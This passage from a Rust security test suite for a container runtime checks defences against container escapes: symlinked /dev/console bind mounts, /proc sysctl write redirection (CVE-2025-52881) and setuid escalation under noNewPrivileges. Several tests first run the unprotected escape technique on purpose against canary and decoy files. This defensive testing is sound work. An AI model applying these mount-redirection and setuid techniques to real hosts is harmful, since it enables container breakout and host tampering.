    // The unprotected path: a path-based bind onto "<rootfs>/dev/console" follows the image's
    // symlink and covers the host file.
    {
        let b = image_dev_bundle();
        std::os::unix::fs::symlink(&canary, b.rootfs().join("dev/console")).expect("symlink");
        let o = unprotected(
            &format!(
                "mount --bind /dev/null {c} && stat -c %t:%T {canary}",
                c = sh_quote(&b.rootfs().join("dev/console")),
                canary = sh_quote(&canary)
            ),
            false,
        );
        assert!(
            stdout_str(&o).trim() == "1:3",
            "demonstration: a path-based bind onto the image's /dev/console did not reach the host file\n{}",
            output_text(&o)
        );
    }

    let canary_s = canary.to_str().expect("utf-8").to_string();
    let targets = [
        canary_s.clone(),
        format!("{}{}", "../".repeat(24), canary_s.trim_start_matches('/')),
    ];
    for target in targets {
        let mut b = image_dev_bundle();
        std::os::unix::fs::symlink(&target, b.rootfs().join("dev/console")).expect("symlink");
        b.config["process"]["terminal"] = json!(true);
        b.set_args(&["/probe"]);
        let sock = ConsoleSocket::new();
        let id = unique_id("console");
        let o = rt.create_with(&b, &id, &["--console-socket", sock.path.to_str().unwrap()]);
        assert_success(&o, &format!("create with /dev/console -> {target}"));
        let master = sock.master();
        let mut ptn: libc::c_uint = 0;
        // SAFETY: TIOCGPTN writes an unsigned int.
        let r = unsafe { libc::ioctl(master.as_raw_fd(), libc::TIOCGPTN, &mut ptn) };
        assert_eq!(r, 0, "the fd from --console-socket is not a pty master");
        let pid = init_pid(&rt, &id);
        let consoles: Vec<HostMount> = mounts_of(pid)
            .into_iter()
            .filter(|m| m.mount_point != "/dev/pts" && m.fs_type == "devpts")
            .collect();
        assert_eq!(
            consoles.len(),
            1,
            "/dev/console -> {target}: expected exactly one pty bind: {consoles:?}"
        );
        assert_eq!(
            consoles[0].root,
            format!("/{ptn}"),
            "/dev/console -> {target}: the bound pty is not the one handed to the engine"
        );
        let all = mounts_of(pid);
        assert!(
            !all.iter()
                .any(|m| m.fs_type != "devpts" && m.root == canary_s),
            "/dev/console -> {target}: the host canary is mounted in the container: {all:?}"
        );
        assert_eq!(fs::read_to_string(&canary).unwrap(), "host-canary\n");
        assert!(host_mounts_at(&canary).is_empty());
        assert_success(&rt.delete_force(&id), "delete --force");
        assert_nothing_left(&rt, &id);
        drop(master);
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-52881: /proc writes redirected by mounts

// The unprotected path: a write by path to <rootfs>/proc/sys/... lands in a file bound
// over it (in a throwaway network namespace, so the real knob is never at risk).
fn demonstrate_path_based_sysctl_write(host: &Path, decoy_dir: &Path) {
    let root = host.join("demo-root");
    fs::create_dir_all(root.join("proc")).unwrap();
    let o = unprotected(
        &format!(
            "mount -t proc proc {r}/proc && mount --bind {d} {r}/proc/sys/net/ipv4/ip_forward \
             && echo 1 > {r}/proc/sys/net/ipv4/ip_forward && umount {r}/proc/sys/net/ipv4/ip_forward \
             && cat {d}",
            r = sh_quote(&root),
            d = sh_quote(&decoy_dir.join("ip_forward"))
        ),
        true,
    );
    assert!(
        stdout_str(&o).trim() == "1",
        "demonstration: a path-based sysctl write did not land in the decoy\n{}",
        output_text(&o)
    );
    fs::write(decoy_dir.join("ip_forward"), "decoy\n").unwrap();
}

/// A decoy bound over the sysctl's file, directly or through a symlink in the image: refused.
fn binds_over_sysctls_are_refused(
    rt: &Runtime,
    decoy_s: &str,
    decoy_dir: &Path,
    sysctl: &dyn Fn(&mut Bundle),
) {
    // A decoy bound over the sysctl's file: refused before anything runs.
    let mut b = Bundle::new();
    sysctl(&mut b);
    add_mount(
        &mut b,
        json!({ "destination": "/proc/sys/net/ipv4/ip_forward", "type": "bind",
            "source": decoy_s, "options": ["bind"] }),
    );
    let id = unique_id("proc-redirect");
    let o = rt.create(&b, &id);
    assert_refused(&o, "mounts[6]", "a bind over /proc/sys/net/ipv4/ip_forward");
    assert_nothing_left(rt, &id);

    // The same through a symlink in the image: refused once resolved.
    let mut b = Bundle::new();
    sysctl(&mut b);
    std::os::unix::fs::symlink("/proc/sys/net/ipv4", b.rootfs().join("sneaky")).unwrap();
    add_mount(
        &mut b,
        json!({ "destination": "/sneaky", "type": "bind",
            "source": decoy_dir.to_str().unwrap(), "options": ["bind"] }),
    );
    let id = unique_id("proc-redirect");
    let o = rt.create(&b, &id);
    assert_refused(&o, "mounts[6]", "a bind onto a symlink into /proc/sys");
    assert_nothing_left(rt, &id);
}

#[test]
fn proc_writes_cannot_be_redirected_by_mounts() {
    let rt = Runtime::new();
    let host = tempdir("vsrun-esc-52881-");
    let decoy = host.path().join("decoy");
    fs::write(&decoy, "decoy\n").expect("decoy");
    let decoy_dir = host.path().join("decoy-dir");
    fs::create_dir(&decoy_dir).expect("decoy dir");
    fs::write(decoy_dir.join("ip_forward"), "decoy\n").expect("decoy file");
    let decoy_s = decoy.to_str().unwrap().to_string();

    demonstrate_path_based_sysctl_write(host.path(), &decoy_dir);

    let sysctl = |b: &mut Bundle| {
        b.config["linux"]["sysctl"] = json!({ "net.ipv4.ip_forward": "1" });
    };

    binds_over_sysctls_are_refused(&rt, &decoy_s, &decoy_dir, &sysctl);

    // Allowed mounts in /proc (lxcfs style) and an image with decoys in its /proc directory:
    // the write still goes to the real procfs file. (An image whose /proc is a symlink is
    // refused: escapes_mounts.rs, proc_on_a_symlinked_proc_is_refused.)
    let mut b = Bundle::new();
    sysctl(&mut b);
    b.config["process"]["oomScoreAdj"] = json!(123);
    add_mount(
        &mut b,
        json!({ "destination": "/proc/sys/kernel/ns_last_pid", "type": "bind",
            "source": decoy_s, "options": ["bind"] }),
    );
    fs::create_dir_all(b.rootfs().join("proc/sys/net/ipv4")).unwrap();
    fs::write(b.rootfs().join("proc/sys/net/ipv4/ip_forward"), "decoy\n").unwrap();
    let lines = rt.probe_lines(
        &mut b,
        &[
            "read",
            "/proc/sys/net/ipv4/ip_forward",
            "--",
            "read",
            "/proc/self/oom_score_adj",
        ],
    );
    assert_eq!(
        lines[0]["data"], "1\n",
        "ip_forward in the container: {}",
        lines[0]
    );
    assert_eq!(
        lines[1]["data"], "123\n",
        "oom_score_adj in the container: {}",
        lines[1]
    );
    assert_eq!(
        fs::read_to_string(&decoy).unwrap(),
        "decoy\n",
        "the decoy was written"
    );
    assert_eq!(
        fs::read_to_string(b.rootfs().join("proc/sys/net/ipv4/ip_forward")).unwrap(),
        "decoy\n",
        "the image's decoy under /proc was written"
    );
    assert_eq!(
        fs::read_to_string(decoy_dir.join("ip_forward")).unwrap(),
        "decoy\n"
    );
}

// ---------------------------------------------------------------------------------------------
// Capabilities and no_new_privs

fn cap_names(seen: &Value, set: &str) -> BTreeSet<String> {
    seen["caps"][set]["names"]
        .as_array()
        .unwrap_or_else(|| panic!("no caps.{set} in {seen}"))
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect()
}

fn set_of(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|s| s.to_string()).collect()
}

/// For a non-root user without file capabilities, execve leaves permitted = effective =
/// ambient: the config below is one where all five sets can hold exactly, and each differs.
#[test]
fn five_capability_sets_equal_the_config_for_a_non_root_user() {
    let rt = Runtime::new();
    let mut b = Bundle::new();
    let bounding = [
        "CAP_CHOWN",
        "CAP_KILL",
        "CAP_NET_BIND_SERVICE",
        "CAP_SYS_CHROOT",
        "CAP_SETUID",
    ];
    let inheritable = ["CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE"];
    let ambient = ["CAP_KILL", "CAP_NET_BIND_SERVICE"];
    b.config["process"]["user"] = json!({ "uid": 1000, "gid": 1000 });
    b.config["process"]["capabilities"] = json!({
        "bounding": bounding, "inheritable": inheritable,
        "permitted": ambient, "effective": ambient, "ambient": ambient,
    });
    let seen = rt.probe(&mut b, &[]);
    assert_eq!(seen["uid"], 1000);
    for (set, want) in [
        ("CapBnd", &bounding[..]),
        ("CapInh", &inheritable[..]),
        ("CapPrm", &ambient[..]),
        ("CapEff", &ambient[..]),
        ("CapAmb", &ambient[..]),
    ] {
        assert_eq!(
            cap_names(&seen, set),
            set_of(want),
            "{set}: {}",
            seen["caps"]
        );
    }
}

#[test]
fn no_capabilities_by_default() {
    let rt = Runtime::new();
    for uid in [0, 1000] {
        let mut b = Bundle::new();
        b.config["process"]["user"] = json!({ "uid": uid, "gid": uid });
        b.config["process"]
            .as_object_mut()
            .unwrap()
            .remove("capabilities");
        let seen = rt.probe(&mut b, &[]);
        for set in ["CapBnd", "CapInh", "CapPrm", "CapEff", "CapAmb"] {
            assert_eq!(
                seen["caps"][set]["hex"], "0000000000000000",
                "uid {uid}, no process.capabilities: {set} is not empty: {}",
                seen["caps"]
            );
        }
    }
}

#[test]
fn no_new_privileges_holds_across_a_setuid_binary() {
    let rt = Runtime::new();
    let run = |nnp: bool| -> Value {
        let mut b = Bundle::new();
        let suid = b.rootfs().join("suid-probe");
        fs::copy(b.rootfs().join("probe"), &suid).expect("copy probe");
        std::os::unix::fs::chown(&suid, Some(0), Some(0)).expect("chown");
        fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).expect("chmod u+s");
        b.config["process"]["user"] = json!({ "uid": 1000, "gid": 1000 });
        b.config["process"]["noNewPrivileges"] = json!(nnp);
        b.set_args(&["/suid-probe"]);
        b.write();
        let id = unique_id("suid");
        let o = rt.cmd(&["run", "--bundle", b.path_str(), &id]);
        assert_success(&o, "run /suid-probe");
        serde_json::from_slice(&o.stdout).expect("probe JSON")
    };
    // The setuid bit works in this rootfs: without no_new_privs the probe runs as euid 0.
    let without = run(false);
    assert_eq!(
        without["euid"], 0,
        "demonstration: the setuid probe did not gain euid 0 without noNewPrivileges: {without}"
    );
    let with = run(true);
    assert_eq!(with["euid"], 1000, "noNewPrivileges: euid changed: {with}");
    assert_eq!(with["NoNewPrivs"], 1, "noNewPrivileges: {with}");
    assert_eq!(
        with["caps"]["CapEff"]["hex"], "0000000000000000",
        "noNewPrivileges: the setuid binary gained capabilities: {}",
        with["caps"]
    );
}
